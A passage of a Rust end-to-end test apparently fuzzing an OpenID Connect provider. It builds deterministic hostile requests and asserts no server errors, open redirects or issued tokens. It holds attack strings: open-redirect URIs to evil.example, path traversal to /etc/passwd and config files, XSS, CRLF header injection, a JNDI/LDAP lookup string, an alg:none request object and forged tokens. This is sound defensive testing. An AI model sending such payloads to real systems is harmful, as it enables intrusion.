//! A storm of hostile requests against every endpoint, from a deterministic generator, then a
//! normal flow.
//!
//! The generator is a seeded xorshift PRNG: request `i` depends only on the seed and `i`, so a
//! failure names requests that can be regenerated exactly (same seed, same index). Knobs:
//! `E2E_HOSTILE_REQUESTS` (default 3000), `E2E_HOSTILE_SEED` (default below),
//! `E2E_HOSTILE_THREADS` (default 8), `E2E_HOSTILE_SECONDS` (time budget, default 240: the loop
//! stops sending when it is spent).
//!
//! Asserted for every response: no status >= 500 (a 503 only with `Retry-After`; a 501 only for
//! a method token outside RFC 9110, which the runtime's HTTP server refuses itself); no `Location`
//! anywhere but the registered redirect URI (open redirect); no `Location` carrying a code and no
//! 200 from /token or /userinfo (nothing in the storm is a valid grant or token). A request that
//! gets no response at all is an offender too, unless it is over the provider's or the dev
//! server's size limits (the server may answer and close before reading all of it).
//!
//! The storm must not disturb the rest of the suite: it never submits a real password or a
//! valid `tx` (no sign-in failure is counted, see throttle.rs), and at the token endpoint it
//! never presents a seeded confidential client with a wrong secret (the client lock), only
//! random client ids, the public client without a secret (a successful client authentication),
//! or malformed credentials.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use e2e::*;
use reqwest::blocking::Client;
use reqwest::header::{HeaderName, HeaderValue};
use reqwest::Method;
use url::Url;

const DEFAULT_REQUESTS: usize = 3000;
const DEFAULT_SEED: u64 = 0x0ED6_E01D_5EED_2024;
const DEFAULT_THREADS: usize = 8;
const DEFAULT_SECONDS: u64 = 240;
/// The provider's limits (src/http.rs).
const MAX_BODY: usize = 64 * 1024;
const MAX_VALUE: usize = 8 * 1024;
/// The methods of RFC 9110 and RFC 5789 (PATCH); any other token may get 501 from the runtime.
const STANDARD_METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "DELETE", "CONNECT", "OPTIONS", "TRACE", "PATCH"];
/// Above this much request line + headers, the dev server itself may refuse the request.
const DEV_SERVER_HEADER_LIMIT: usize = 16 * 1024;

// ---------------------------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------------------------

/// xorshift64, seeded through splitmix64. Also carries the real tx to tamper with, if any.
struct Rng(u64, Option<&'static str>);

impl Rng {
    fn new(seed: u64) -> Rng {
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^= z >> 31;
        Rng(if z == 0 { 1 } else { z }, None)
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + self.below(hi - lo + 1)
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn chars_of(&mut self, alphabet: &[u8], n: usize) -> String {
        (0..n).map(|_| *self.pick(alphabet) as char).collect()
    }

    fn alnum(&mut self, n: usize) -> String {
        self.chars_of(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", n)
    }

    fn b64url(&mut self, n: usize) -> String {
        self.chars_of(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", n)
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Target {
    AuthorizeGet,
    AuthorizePost,
    Login,
    Consent,
    Token,
    UserinfoGet,
    UserinfoPost,
    Jwks,
    Discovery,
    OauthMetadata,
    Stylesheet,
    Root,
    Logout,
    Consents,
    RandomPath,
}

const TARGETS: &[Target] = &[
    Target::AuthorizeGet,
    Target::AuthorizeGet,
    Target::AuthorizePost,
    Target::Login,
    Target::Login,
    Target::Consent,
    Target::Consent,
    Target::Token,
    Target::Token,
    Target::Token,
    Target::UserinfoGet,
    Target::UserinfoPost,
    Target::Jwks,
    Target::Discovery,
    Target::OauthMetadata,
    Target::Stylesheet,
    Target::Root,
    Target::Logout,
    Target::Consents,
    Target::RandomPath,
    Target::RandomPath,
];

impl Target {
    fn path(self) -> &'static str {
        match self {
            Target::AuthorizeGet | Target::AuthorizePost => "/authorize",
            Target::Login => "/login",
            Target::Consent => "/consent",
            Target::Token => "/token",
            Target::UserinfoGet | Target::UserinfoPost => "/userinfo",
            Target::Jwks => "/jwks.json",
            Target::Discovery => "/.well-known/openid-configuration",
            Target::OauthMetadata => "/.well-known/oauth-authorization-server",
            Target::Stylesheet => "/assets/style.css",
            Target::Root => "/",
            Target::Logout => "/logout",
            Target::Consents => "/consents",
            Target::RandomPath => "/",
        }
    }

    fn method(self) -> &'static str {
        match self {
            Target::AuthorizePost
            | Target::Login
            | Target::Consent
            | Target::Token
            | Target::UserinfoPost
            | Target::Consents => "POST",
            _ => "GET",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Mutation {
    Repeat,
    Huge,
    JustOverValueLimit,
    ManyParams,
    BadPercent,
    InvalidUtf8Body,
    Nul,
    ContentType,
    JsonBody,
    BrokenBasic,
    BearerGarbage,
    OversizedBody,
    UnknownMethod,
    Cookies,
    ForgedTx,
    CodeShaped,
    LongPath,
    OpenRedirect,
    RequestObject,
    WeirdValue,
    SpoofedHeaders,
    QueryOnPost,
    Empty,
}

const MUTATIONS: &[Mutation] = &[
    Mutation::Repeat,
    Mutation::Huge,
    Mutation::JustOverValueLimit,
    Mutation::ManyParams,
    Mutation::BadPercent,
    Mutation::InvalidUtf8Body,
    Mutation::Nul,
    Mutation::ContentType,
    Mutation::JsonBody,
    Mutation::BrokenBasic,
    Mutation::BearerGarbage,
    Mutation::OversizedBody,
    Mutation::UnknownMethod,
    Mutation::Cookies,
    Mutation::ForgedTx,
    Mutation::CodeShaped,
    Mutation::LongPath,
    Mutation::OpenRedirect,
    Mutation::OpenRedirect,
    Mutation::RequestObject,
    Mutation::WeirdValue,
    Mutation::WeirdValue,
    Mutation::SpoofedHeaders,
    Mutation::QueryOnPost,
    Mutation::Empty,
];

/// Where the seeded clients may be sent: every seeded client has exactly this redirect URI.
fn registered_redirect() -> Url {
    Url::parse(&env().redirect_uri).unwrap()
}

/// Redirect URIs an attacker would try.
fn evil_redirects() -> Vec<String> {
    let r = env().redirect_uri.clone();
    let u = registered_redirect();
    let host_port = format!("{}:{}", u.host_str().unwrap(), u.port_or_known_default().unwrap());
    vec![
        "https://evil.example".into(),
        "https://evil.example/callback".into(),
        "//evil.example".into(),
        "//evil.example/callback".into(),
        "javascript:alert(1)".into(),
        "JavaScript:alert(document.cookie)//".into(),
        "data:text/html,<script>alert(1)</script>".into(),
        "/\\evil.example".into(),
        "\\\\evil.example".into(),
        format!("{r}/../../evil"),
        format!("{r}?next=https://evil.example"),
        format!("{r}#@evil.example"),
        format!("{r}@evil.example"),
        format!("{r}%2f%2e%2e%2fevil"),
        format!("{r} "),
        format!("{r}%00"),
        format!("http://evil.example%2f@{host_port}/callback"),
        format!("http://{host_port}@evil.example/callback"),
        format!("http://evil.example\\@{host_port}/callback"),
        r.to_uppercase(),
        r.replace("http://", "https://"),
        r.replace("http://", "http:/"),
    ]
}

/// A random client id that is not registered (its own throttle counter, never a seeded one).
fn hostile_client_id(r: &mut Rng) -> String {
    format!("hostile-{}", r.alnum(10))
}

/// `<22 b64url>.<43 b64url>`: the shape of codes and access tokens.
fn shaped_handle(r: &mut Rng) -> String {
    format!("{}.{}", r.b64url(22), r.b64url(43))
}

/// A forged page state: base64url.base64url, often with a plausible JSON payload.
fn forged_tx(r: &mut Rng) -> String {
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let e = env();
    if let Some(real) = r.1.filter(|_| r.chance(30)) {
        // A real page state, tampered with (or, rarely, intact but without its cookie).
        let (payload, mac) = real.split_once('.').expect("a tx is payload.mac");
        return match r.below(5) {
            0 => {
                let mut chars: Vec<char> = real.chars().collect();
                let i = r.below(chars.len());
                chars[i] = if chars[i] == 'A' { 'B' } else { 'A' };
                chars.into_iter().collect()
            }
            1 => format!("{payload}.{}", r.b64url(43)),
            2 => format!("{}{}.{mac}", &payload[..payload.len() - 4], r.b64url(4)),
            3 => format!("{payload}.{mac}{}", r.b64url(2)),
            _ => real.to_string(),
        };
    }
    match r.below(8) {
        0 => {
            let payload = serde_json::json!({
                "client_id": e.basic_id, "client_name": "x", "redirect_uri": "https://evil.example/cb",
                "scope": "openid profile email", "csrf": r.b64url(43), "exp": forged_now() + 600,
                "user": {"sub": r.alnum(16), "username": "admin", "auth_time": forged_now(), "claims": {}}
            });
            format!("{}.{}", b64.encode(payload.to_string()), r.b64url(43))
        }
        1 => {
            let payload = serde_json::json!({
                "client_id": e.public_id, "client_name": "x", "redirect_uri": e.redirect_uri,
                "scope": "openid", "csrf": r.b64url(43), "exp": 99999999999i64,
            });
            format!("{}.{}", b64.encode(payload.to_string()), b64.encode(r.bytes(32)))
        }
        2 => format!("{}.", {
            let n = r.range(1, 300);
            r.b64url(n)
        }),
        3 => format!(".{}", r.b64url(43)),
        4 => format!("{}.{}.{}", r.b64url(40), r.b64url(43), r.b64url(10)),
        5 => {
            let n = r.range(100, 7000);
            r.b64url(n)
        }
        6 => format!(
            "{}.{}",
            b64.encode({
                let n = r.range(1, 400);
                r.bytes(n)
            }),
            r.b64url(43)
        ),
        _ => format!(
            "{}.{}",
            {
                let n = r.range(10, 600);
                r.b64url(n)
            },
            r.b64url(43)
        ),
    }
}

/// The time written into forged transactions: read once per process, so that a (seed, index)
/// gives the same request however long the run (read at each call, a second boundary between
/// two generations of one request made them differ).
fn forged_now() -> i64 {
    static AT: std::sync::OnceLock<i64> = std::sync::OnceLock::new();
    *AT.get_or_init(now)
}

/// The `tx` of a real login page, for tampering (set by the storm before it starts; the
/// offline generator test runs without it).
static REAL_TX: std::sync::OnceLock<String> = std::sync::OnceLock::new();

/// One hostile request, fully determined by (seed, index) (and the real tx, when tampered).
struct Attack {
    index: usize,
    target: Target,
    mutations: Vec<Mutation>,
    method: String,
    path: String,
    /// Form parameters as raw bytes (encoded at the end), plus raw pieces appended verbatim.
    params: Vec<(Vec<u8>, Vec<u8>)>,
    raw_tail: Vec<u8>,
    /// Parameters go in the query string (else in the body).
    in_query: bool,
    headers: Vec<(String, Vec<u8>)>,
    /// A body that replaces the encoded parameters.
    body_override: Option<Vec<u8>>,
    content_type: Option<Vec<u8>>,
    /// An extra query string for a POST (parameters both places).
    extra_query: Option<String>,
}

/// The request as sent.
struct Built {
    method: Method,
    url: String,
    headers: Vec<(HeaderName, HeaderValue)>,
    body: Option<Vec<u8>>,
    /// Over a size limit: the server may answer early and close the connection.
    oversized: bool,
}

fn encode(bytes: &[u8]) -> String {
    url::form_urlencoded::byte_serialize(bytes).collect()
}

impl Attack {
    fn set(&mut self, name: &str, value: impl Into<Vec<u8>>) {
        self.params.retain(|(n, _)| n != name.as_bytes());
        self.params.push((name.as_bytes().to_vec(), value.into()));
    }

    fn param_names(&self) -> Vec<String> {
        self.params.iter().map(|(n, _)| String::from_utf8_lossy(n).into_owned()).collect()
    }

    /// A parameter to mutate: an existing one, or a new one with a name the endpoint reads.
    /// Never a client credential at the token endpoint (see the module comment).
    fn victim(&self, r: &mut Rng) -> String {
        let safe: Vec<String> =
            self.param_names().into_iter().filter(|n| n != "client_id" && n != "client_secret").collect();
        if !safe.is_empty() && r.chance(80) {
            return r.pick(&safe).clone();
        }
        r.pick(&["state", "nonce", "scope", "code", "redirect_uri", "tx", "username", "decision", "x"]).to_string()
    }

    fn header(&mut self, name: &str, value: impl Into<Vec<u8>>) {
        self.headers.push((name.to_string(), value.into()));
    }

    fn encoded_params(&self) -> Vec<u8> {
        let mut s: Vec<u8> = self
            .params
            .iter()
            .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
            .collect::<Vec<_>>()
            .join("&")
            .into_bytes();
        s.extend_from_slice(&self.raw_tail);
        s
    }

    fn build(&self) -> Built {
        let method = Method::from_bytes(self.method.as_bytes()).expect("a valid method token");
        let encoded = self.encoded_params();
        let mut url = format!("{}{}", env().issuer, self.path);
        let mut body = None;
        if self.in_query {
            if !encoded.is_empty() {
                // The query may carry bytes that are not UTF-8 only in percent-encoded form.
                url.push('?');
                url.push_str(&String::from_utf8_lossy(&encoded));
            }
        } else {
            body = Some(encoded);
        }
        if let Some(q) = &self.extra_query {
            url.push(if url.contains('?') { '&' } else { '?' });
            url.push_str(q);
        }
        if let Some(b) = &self.body_override {
            body = Some(b.clone());
        }
        let mut headers = Vec::new();
        if let Some(ct) = &self.content_type {
            headers.push((HeaderName::from_static("content-type"), HeaderValue::from_bytes(ct).expect("header value")));
        }
        for (n, v) in &self.headers {
            headers.push((
                HeaderName::from_bytes(n.as_bytes()).expect("header name"),
                HeaderValue::from_bytes(v).unwrap_or_else(|_| panic!("header value for {n}: {v:?}")),
            ));
        }
        let head_len = url.len() + headers.iter().map(|(n, v)| n.as_str().len() + v.len() + 4).sum::<usize>();
        let oversized = body.as_ref().is_some_and(|b| b.len() > MAX_BODY) || head_len > DEV_SERVER_HEADER_LIMIT;
        Built { method, url, headers, body, oversized }
    }

    /// For failure messages: enough to see what was sent (and `index` to regenerate it).
    fn describe(&self, built: &Built) -> String {
        let clip = |s: &str, n: usize| -> String {
            if s.len() <= n {
                s.to_string()
            } else {
                format!("{}...({} bytes)", s.chars().take(n).collect::<String>(), s.len())
            }
        };
        let headers: Vec<String> = built
            .headers
            .iter()
            .map(|(n, v)| format!("{n}: {}", clip(&String::from_utf8_lossy(v.as_bytes()), 120)))
            .collect();
        let body = built.body.as_ref().map_or("(none)".to_string(), |b| {
            format!("{} bytes: {:?}", b.len(), clip(&String::from_utf8_lossy(&b[..b.len().min(300)]), 200))
        });
        format!(
            "#{} {:?} {:?}\n    {} {}\n    headers: {:?}\n    body: {}",
            self.index,
            self.target,
            self.mutations,
            built.method,
            clip(&built.url, 300),
            headers,
            body
        )
    }
}

fn base_attack(r: &mut Rng, index: usize, target: Target) -> Attack {
    let e = env();
    let mut a = Attack {
        index,
        target,
        mutations: Vec::new(),
        method: target.method().to_string(),
        path: target.path().to_string(),
        params: Vec::new(),
        raw_tail: Vec::new(),
        in_query: target.method() == "GET",
        headers: Vec::new(),
        body_override: None,
        content_type: (target.method() == "POST").then(|| b"application/x-www-form-urlencoded".to_vec()),
        extra_query: None,
    };
    match target {
        Target::AuthorizeGet | Target::AuthorizePost => {
            let client = match r.below(5) {
                0 => e.basic_id.clone(),
                1 => e.post_id.clone(),
                2 | 3 => e.public_id.clone(),
                _ => hostile_client_id(r),
            };
            a.set("response_type", *r.pick(&["code", "code", "code", "token", "id_token", "code id_token", "none"]));
            a.set("client_id", client);
            a.set("redirect_uri", e.redirect_uri.clone());
            a.set(
                "scope",
                *r.pick(&["openid", "openid profile email", "openid email", "profile", "openid offline_access"]),
            );
            a.set("state", r.alnum(16));
            if r.chance(70) {
                a.set("nonce", r.alnum(16));
            }
            if r.chance(60) {
                a.set("code_challenge", r.b64url(43));
                a.set("code_challenge_method", *r.pick(&["S256", "S256", "plain", "S512", ""]));
            }
            if r.chance(10) {
                a.set("prompt", *r.pick(&["none", "login", "consent", "select_account", "login consent none"]));
            }
            if r.chance(10) {
                a.set("response_mode", *r.pick(&["query", "fragment", "form_post", "query.jwt", "web_message"]));
            }
        }
        Target::Login => {
            a.set("tx", forged_tx(r));
            let name = match r.below(4) {
                0 => format!("hostile-{}", r.alnum(8)),
                1 => format!("{}@evil.example", r.alnum(6)),
                2 => "admin".to_string(),
                _ => {
                    let n = r.range(1, 64);
                    r.alnum(n)
                }
            };
            a.set("username", name);
            a.set("password", format!("hostile-{}", r.alnum(12)));
        }
        Target::Consent => {
            a.set("tx", forged_tx(r));
            a.set("decision", *r.pick(&["allow", "allow", "deny", "ALLOW", "maybe", "allow deny"]));
        }
        Target::Token => {
            a.set(
                "grant_type",
                *r.pick(&[
                    "authorization_code",
                    "authorization_code",
                    "refresh_token",
                    "password",
                    "client_credentials",
                ]),
            );
            a.set("code", shaped_handle(r));
            a.set("redirect_uri", e.redirect_uri.clone());
            if r.chance(50) {
                a.set("code_verifier", {
                    let n = r.range(43, 128);
                    r.b64url(n)
                });
            }
            match r.below(4) {
                // The public client: authenticates without a secret, then the code is refused.
                0 => a.set("client_id", e.public_id.clone()),
                1 => {
                    a.set("client_id", hostile_client_id(r));
                    a.set("client_secret", r.b64url(43));
                }
                2 => {
                    let creds = format!("{}:{}", hostile_client_id(r), r.b64url(43));
                    let v = format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(creds));
                    a.header("authorization", v);
                }
                _ => {}
            }
        }
        Target::UserinfoGet | Target::UserinfoPost => match r.below(3) {
            0 => a.header("authorization", format!("Bearer {}", shaped_handle(r))),
            1 => a.set("access_token", shaped_handle(r)),
            _ => {}
        },
        Target::Logout => {
            // RP-Initiated Logout with hostile hints, clients and redirect URIs, and a forged
            // session cookie: never a redirect (no client here has a post-logout URI).
            if r.chance(60) {
                a.set("id_token_hint", *r.pick(&["a.b.c", "eyJhbGciOiJSUzI1NiJ9.e30.c2ln", "garbage", ""]));
            }
            if r.chance(60) {
                a.set("client_id", if r.chance(50) { e.basic_id.clone() } else { hostile_client_id(r) });
            }
            if r.chance(60) {
                a.set(
                    "post_logout_redirect_uri",
                    *r.pick(&["https://evil.example/", "//evil.example", &e.redirect_uri, "javascript:alert(1)"]),
                );
            }
            if r.chance(50) {
                a.set("state", r.alnum(16));
            }
            if r.chance(30) {
                a.set("tx", forged_tx(r));
            }
            if r.chance(50) {
                a.header("cookie", format!("oidc_session={}.{}", r.b64url(12), r.b64url(43)));
            }
        }
        Target::Consents => {
            a.set("client_id", if r.chance(50) { e.basic_id.clone() } else { hostile_client_id(r) });
            a.set("csrf", r.b64url(43));
            if r.chance(60) {
                a.header(
                    "cookie",
                    format!("oidc_session={}.{}; oidc_csrf={}", r.b64url(12), r.b64url(43), r.b64url(43)),
                );
            }
        }
        Target::Jwks | Target::Discovery | Target::OauthMetadata | Target::Stylesheet | Target::Root => {
            if r.chance(30) {
                a.set(&r.alnum(5), r.alnum(10));
            }
        }
        Target::RandomPath => {
            a.path = match r.below(6) {
                0 => r
                    .pick(&[
                        "/authorize/",
                        "/AUTHORIZE",
                        "/token/",
                        "/token%00",
                        "/login/..",
                        "/.well-known/",
                        "/.well-known/openid-configuration/extra",
                        "/%2e%2e/%2e%2e/etc/passwd",
                        "/assets/../.dev.vars",
                        "/assets/%2e%2e%2f.dev.vars",
                        "/assets/style.css/..%2f..%2fwrangler.toml",
                        "/assets/",
                        "/favicon.ico",
                        "/robots.txt",
                        "//evil.example",
                        "//evil.example/%2f..",
                        "/%5cevil.example",
                        "/%2F%2Fevil.example",
                        "/callback",
                        "/userinfo;jsessionid=1",
                        "/jwks.json%20",
                        "/%FF%FE",
                        "/%G1",
                        "/%",
                        "/\u{2603}",
                    ])
                    .to_string(),
                1 => format!("/{}", {
                    let n = r.range(1, 40);
                    r.alnum(n)
                }),
                2 => format!("{}/{}", r.pick(&["/authorize", "/token", "/login", "/consent", "/userinfo"]), r.alnum(8)),
                3 => (0..r.range(2, 20))
                    .map(|_| {
                        format!("/{}", {
                            let n = r.range(1, 12);
                            r.alnum(n)
                        })
                    })
                    .collect(),
                4 => format!(
                    "/{}",
                    encode(&{
                        let n = r.range(1, 60);
                        r.bytes(n)
                    })
                ),
                _ => format!("/.well-known/{}", {
                    let n = r.range(1, 30);
                    r.alnum(n)
                }),
            };
        }
    }
    a
}

fn mutate(a: &mut Attack, m: Mutation, r: &mut Rng) {
    let e = env();
    match m {
        Mutation::Repeat => {
            let name = a.victim(r);
            let value = a
                .params
                .iter()
                .find(|(n, _)| n == name.as_bytes())
                .map(|(_, v)| v.clone())
                .unwrap_or_else(|| r.alnum(8).into_bytes());
            let other = if r.chance(50) { value.clone() } else { r.alnum(8).into_bytes() };
            a.params.push((name.clone().into_bytes(), value));
            a.params.push((name.into_bytes(), other));
        }
        Mutation::Huge => {
            let name = a.victim(r);
            let n = r.range(10 * 1024, 100 * 1024);
            let value = if r.chance(50) { "A".repeat(n) } else { r.alnum(n) };
            a.set(&name, value);
        }
        Mutation::JustOverValueLimit => {
            let name = a.victim(r);
            let n = r.range(MAX_VALUE + 1, MAX_VALUE + 64);
            a.set(&name, r.b64url(n));
        }
        Mutation::ManyParams => {
            for i in 0..r.range(65, 400) {
                a.params.push((format!("p{i}").into_bytes(), b"1".to_vec()));
            }
        }
        Mutation::BadPercent => {
            let name = a.victim(r);
            let bad = *r.pick(&["%G1", "%", "%FF%FE", "%C3%28", "%E2%82", "%ED%A0%80", "%%", "%0", "%zz", "%25%G1"]);
            if r.chance(70) {
                a.raw_tail.extend_from_slice(format!("&{name}={bad}").as_bytes());
            } else {
                a.raw_tail.extend_from_slice(format!("&{bad}{name}=x").as_bytes());
            }
        }
        Mutation::InvalidUtf8Body => {
            let junk: &[&[u8]] =
                &[b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\x80", b"\xf8\x88\x80\x80\x80"];
            let name = a.victim(r);
            let mut body = a.encoded_params();
            body.extend_from_slice(format!("&{name}=").as_bytes());
            let bad: &&[u8] = r.pick(junk);
            body.extend_from_slice(bad);
            if r.chance(30) {
                body = {
                    let n = r.range(1, 2000);
                    r.bytes(n)
                };
            }
            a.body_override = Some(body);
            if a.in_query && r.chance(50) {
                // A body on a GET.
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::Nul => {
            let name = a.victim(r);
            let mut v = r.alnum(4).into_bytes();
            v.push(0);
            v.extend_from_slice(r.alnum(4).as_bytes());
            a.set(&name, v);
            if !a.in_query && r.chance(40) {
                let mut body = a.encoded_params();
                body.extend_from_slice(b"&nul=\0\0");
                a.body_override = Some(body);
            }
        }
        Mutation::ContentType => {
            let types: &[&[u8]] = &[
                b"text/plain",
                b"application/json",
                b"multipart/form-data; boundary=xyz",
                b"application/x-www-form-urlencoded; charset=ISO-8859-1",
                b"application/x-www-form-urlencoded;;;",
                b"APPLICATION/X-WWW-FORM-URLENCODED",
                b"application/x-www-form-urlencoded, text/html",
                b"\x80\xff/\xfe",
                b"",
                b"*/*",
            ];
            a.content_type = if r.chance(25) { None } else { Some(r.pick(types).to_vec()) };
        }
        Mutation::JsonBody => {
            let map: serde_json::Map<String, serde_json::Value> = a
                .params
                .iter()
                .map(|(k, v)| {
                    (
                        String::from_utf8_lossy(k).into_owned(),
                        serde_json::Value::String(String::from_utf8_lossy(v).into_owned()),
                    )
                })
                .collect();
            a.body_override = Some(serde_json::Value::Object(map).to_string().into_bytes());
            a.content_type = Some(if r.chance(50) {
                b"application/json".to_vec()
            } else {
                b"application/x-www-form-urlencoded".to_vec()
            });
            if a.method == "GET" && r.chance(50) {
                a.method = "POST".into();
            }
        }
        Mutation::BrokenBasic => {
            let std = base64::engine::general_purpose::STANDARD;
            let value: Vec<u8> = match r.below(12) {
                0 => b"Basic".to_vec(),
                1 => b"Basic ".to_vec(),
                2 => b"Basic !!!".to_vec(),
                3 => format!("Basic {}", std.encode(hostile_client_id(r))).into_bytes(),
                4 => {
                    let mut raw = b"\xff\xfe".to_vec();
                    raw.extend_from_slice(b":");
                    raw.extend_from_slice(&r.bytes(8));
                    format!("Basic {}", std.encode(raw)).into_bytes()
                }
                5 => {
                    let mut v = b"Basic ".to_vec();
                    v.extend_from_slice(b"\xc3\xa9\xff:\xfe");
                    v
                }
                6 => format!("Basic {}", std.encode(":")).into_bytes(),
                7 => format!("Basic {}", std.encode(format!("{}:", hostile_client_id(r)))).into_bytes(),
                8 => format!("Basic {}", std.encode("%zz:%G1")).into_bytes(),
                9 => format!("basic {}", {
                    let n = r.range(2000, 9000);
                    r.b64url(n)
                })
                .into_bytes(),
                10 => format!("Basic {}=====", std.encode(format!("{}:x", hostile_client_id(r)))).into_bytes(),
                _ => format!("Digest username=\"{}\"", hostile_client_id(r)).into_bytes(),
            };
            a.header("authorization", value);
            // Never pair broken credentials with a seeded client id in the body.
            if a.params.iter().any(|(n, _)| n == b"client_id") {
                a.set("client_id", hostile_client_id(r));
            }
        }
        Mutation::BearerGarbage => {
            let value: Vec<u8> = match r.below(9) {
                0 => b"Bearer".to_vec(),
                1 => b"Bearer ".to_vec(),
                2 => format!("Bearer {}", {
                    let n = r.range(1, 200);
                    r.b64url(n)
                })
                .into_bytes(),
                3 => format!("Bearer {}", shaped_handle(r)).into_bytes(),
                4 => b"Bearer \x80\x81\xfe".to_vec(),
                5 => format!("bearer {}", {
                    let n = r.range(4000, 9000);
                    r.b64url(n)
                })
                .into_bytes(),
                6 => format!("Bearer {} {}", r.alnum(10), r.alnum(10)).into_bytes(),
                7 => format!("Bearer {}.{}.{}", r.b64url(30), r.b64url(80), r.b64url(40)).into_bytes(),
                _ => format!("Bearer ..{}..", r.b64url(20)).into_bytes(),
            };
            a.header("authorization", value);
            if r.chance(30) {
                a.header("authorization", format!("Bearer {}", shaped_handle(r)));
            }
        }
        Mutation::OversizedBody => {
            let n = r.range(MAX_BODY + 1, 200 * 1024);
            let mut body = a.encoded_params();
            body.extend_from_slice(b"&pad=");
            while body.len() < n {
                body.push(b'A');
            }
            a.body_override = Some(body);
            if a.method == "GET" && r.chance(70) {
                a.method = "POST".into();
                a.content_type = Some(b"application/x-www-form-urlencoded".to_vec());
            }
        }
        Mutation::UnknownMethod => {
            a.method = r.pick(&["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "PROPFIND", "FOO", "get"]).to_string();
        }
        Mutation::Cookies => {
            let names = ["oidc_csrf", "__Host-oidc_csrf", "session", "a"];
            let mut cookie = Vec::new();
            let count = r.range(1, 5);
            for _ in 0..count {
                let name = *r.pick(&names);
                let value = match r.below(4) {
                    0 => r.b64url(43),
                    1 => {
                        let n = r.range(0, 60);
                        r.b64url(n)
                    }
                    2 => {
                        let n = r.range(1000, 4000);
                        r.alnum(n)
                    }
                    _ => "\"quoted\"".to_string(),
                };
                cookie.extend_from_slice(format!("{name}={value}; ").as_bytes());
            }
            if r.chance(20) {
                cookie.extend_from_slice(b"bad=\xff\xfe; ;;=;");
            }
            a.header("cookie", cookie);
        }
        Mutation::ForgedTx => {
            let tx = forged_tx(r);
            a.set("tx", tx);
        }
        Mutation::CodeShaped => {
            let name = *r.pick(&["code", "access_token", "code_verifier", "tx"]);
            let handle = shaped_handle(r);
            a.set(name, handle);
        }
        Mutation::LongPath => {
            let n = r.range(1000, 8000);
            let mut path = a.path.trim_end_matches('/').to_string();
            while path.len() < n {
                path.push('/');
                path.push_str(&{
                    let n = r.range(1, 50);
                    r.alnum(n)
                });
            }
            a.path = path;
        }
        Mutation::OpenRedirect => {
            let evil = evil_redirects();
            let uri = r.pick(&evil).clone();
            a.set("redirect_uri", uri);
            if r.chance(40) && matches!(a.target, Target::AuthorizeGet | Target::AuthorizePost) {
                // A valid client with a good state, so an error redirect would be tempting.
                let client = r.pick(&[e.basic_id.clone(), e.public_id.clone()]).clone();
                a.set("client_id", client);
                a.set("response_type", "code");
            }
            if r.chance(20) {
                let uri = r.pick(&evil).clone();
                a.params.push((b"redirect_uri".to_vec(), uri.into_bytes()));
            }
        }
        Mutation::RequestObject => {
            let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
            let claims = serde_json::json!({"redirect_uri": "https://evil.example", "client_id": e.basic_id, "response_type": "code"});
            let jwt = format!("{}.{}.", b64.encode(r#"{"alg":"none"}"#), b64.encode(claims.to_string()));
            match r.below(3) {
                0 => a.set("request", jwt),
                1 => a.set(
                    "request_uri",
                    *r.pick(&[
                        "https://evil.example/request.jwt",
                        "urn:ietf:params:oauth:request_uri:abc",
                        "file:///etc/passwd",
                    ]),
                ),
                _ => {
                    a.set("request", jwt);
                    a.set("request_uri", "https://evil.example/r");
                }
            }
        }
        Mutation::WeirdValue => {
            let name = a.victim(r);
            let value: Vec<u8> = match r.below(12) {
                0 => b" ".to_vec(),
                1 => "\u{2603}\u{202e}\u{200b}".as_bytes().to_vec(),
                2 => b"<script>alert(1)</script>".to_vec(),
                3 => b"\"'><img src=x onerror=alert(1)>".to_vec(),
                4 => b"-1".to_vec(),
                5 => b"99999999999999999999999999".to_vec(),
                6 => b"openid openid openid".to_vec(),
                7 => (0..r.range(50, 600)).map(|i| format!("s{i}")).collect::<Vec<_>>().join(" ").into_bytes(),
                8 => b"\r\nSet-Cookie: injected=1".to_vec(),
                9 => b"../../../../etc/passwd".to_vec(),
                10 => "\u{FFFD}\u{FEFF}".as_bytes().to_vec(),
                _ => b"${jndi:ldap://evil.example/a}".to_vec(),
            };
            a.set(&name, value);
        }
        Mutation::SpoofedHeaders => {
            let headers: &[(&str, &str)] = &[
                ("x-forwarded-for", "203.0.113.7, 127.0.0.1"),
                ("cf-connecting-ip", "203.0.113.9"),
                ("x-real-ip", "198.51.100.1"),
                ("x-forwarded-host", "evil.example"),
                ("forwarded", "for=203.0.113.1;host=evil.example;proto=https"),
                ("x-forwarded-proto", "https"),
                ("origin", "https://evil.example"),
                ("referer", "https://evil.example/phish"),
                ("accept", "*/*;q=abc, text/html;level=9999999999"),
                ("accept-encoding", "gzip;q=0, br, zstd, identity;q=abc"),
                ("x-http-method-override", "DELETE"),
